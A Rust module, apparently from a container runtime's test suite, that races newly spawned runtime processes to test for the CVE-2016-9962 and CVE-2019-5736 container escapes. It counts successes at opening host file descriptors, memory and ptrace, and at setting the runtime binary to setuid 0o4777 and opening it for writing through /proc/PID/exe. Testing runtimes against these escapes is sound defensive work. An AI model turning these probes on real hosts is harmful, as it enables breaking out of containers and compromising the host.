//! Processes that are not yet what they will be: they run tinyd's program, in the container, for a moment.

use std::fs::{self, OpenOptions, Permissions};
use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::{Duration, Instant};

use nix::sys::ptrace;
use nix::unistd::Pid;
use rustix::fs::{Mode, OFlags, open};

/// The name of a process that runs it (at most 15 bytes, as the kernel keeps it).
const PROGRAM: &str = "tinyd-runtime";

/// Ids that are looked at ahead of the newest known one.
const AHEAD: i32 = 4;

/// How long one process is waited for, at the cost of those that come meanwhile.
const PATIENCE: Duration = Duration::from_millis(500);

/// How many handles of programs are kept.
const HELD: usize = 256;

/// Calls `attack` for each new process as often as there is time, until `stop` is there.
fn each(stop: &Path, mut attack: impl FnMut(i32)) {
    let newest = || {
        let entries = fs::read_dir("/proc").into_iter().flatten().flatten();
        entries.filter_map(|entry| entry.file_name().to_str()?.parse::<i32>().ok()).max().unwrap_or(1)
    };
    println!("ready");
    let mut last = newest();
    let mut turn = 0u32;
    loop {
        // To ask for an id that is not there yet is much faster than to list those that are.
        for pid in last + 1..=last + AHEAD {
            if Path::new(&format!("/proc/{pid}")).exists() {
                last = pid;
                attack(pid);
            }
        }
        turn += 1;
        if turn.is_multiple_of(64) {
            last = last.max(newest());
            if stop.exists() {
                return;
            }
        }
    }
}

/// CVE-2016-9962: what the program has open, sees as its root or holds in memory is the host's until its exec.
pub(crate) fn look(stop: &Path) {
    let mut found = [("seen", 0u32), ("fd", 0), ("root", 0), ("cwd", 0), ("mem", 0), ("trace", 0)];
    each(stop, |pid| {
        let is_ours =
            || fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|name| name.trim() == PROGRAM);
        let mut seen = false;
        while is_ours() {
            if !seen {
                seen = true;
                found[0].1 += 1;
            }
            // What succeeds counts when the process has not become the command meanwhile.
            let tries: [&dyn Fn() -> bool; 5] = [
                &|| (0..16).any(|fd| reach(&format!("/proc/{pid}/fd/{fd}"))),
                &|| reach(&format!("/proc/{pid}/root")),
                &|| reach(&format!("/proc/{pid}/cwd")),
                &|| fs::File::open(format!("/proc/{pid}/mem")).is_ok(),
                &|| trace(pid),
            ];
            for (count, attempt) in found[1..].iter_mut().zip(tries) {
                if attempt() && is_ours() {
                    count.1 += 1;
                }
            }
        }
    });
    say(&found);
}

fn reach(path: &str) -> bool {
    open(path, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()).is_ok()
}

fn trace(pid: i32) -> bool {
    let pid = Pid::from_raw(pid);
    // Not by attach: a process that execs meanwhile would be left with a stop signal.
    ptrace::seize(pid, ptrace::Options::empty()).is_ok_and(|()| {
        let _ = ptrace::interrupt(pid);
        let _ = nix::sys::wait::waitpid(pid, None);
        let _ = ptrace::detach(pid, None);
        true
    })
}

/// CVE-2019-5736: through `/proc/PID/exe` to the program's own file.
pub(crate) fn overwrite(stop: &Path) {
    let mut found = [("seen", 0u32), ("chmod", 0), ("write", 0)];
    // Held open until its process has ended: as long as the program runs, the kernel lets nobody write to it.
    let mut held: Vec<OwnedFd> = Vec::new();
    each(stop, |pid| {
        let exe = format!("/proc/{pid}/exe");
        // Until it is gone, or something that may be looked at.
        let begin = Instant::now();
        while Path::new(&exe).symlink_metadata().is_ok() && begin.elapsed() < PATIENCE {
            let Ok(path) = fs::read_link(&exe) else { continue };
            // A mount that is attached nowhere shows as the root.
            let is_ours = path == Path::new("/") || path.to_string_lossy().contains(PROGRAM);
            if is_ours && let Ok(handle) = open(&exe, OFlags::PATH | OFlags::CLOEXEC, Mode::empty()) {
                found[0].1 += 1;
                change(&handle, &mut found);
                held.push(handle);
                // A process may not have many files open.
                if held.len() > HELD {
                    held.remove(0);
                }
            }
            break;
        }
        held.iter().rev().take(4).for_each(|handle| change(handle, &mut found));
    });
    held.iter().for_each(|handle| change(handle, &mut found));
    say(&found);
}

fn change(handle: &OwnedFd, found: &mut [(&str, u32); 3]) {
    let path = format!("/proc/self/fd/{}", handle.as_raw_fd());
    if fs::set_permissions(&path, Permissions::from_mode(0o4777)).is_ok() {
        found[1].1 += 1;
    }
    if OpenOptions::new().append(true).open(&path).is_ok() {
        found[2].1 += 1;
    }
}

fn say(found: &[(&str, u32)]) {
    for (name, count) in found {
        println!("{name}={count}");
    }
}
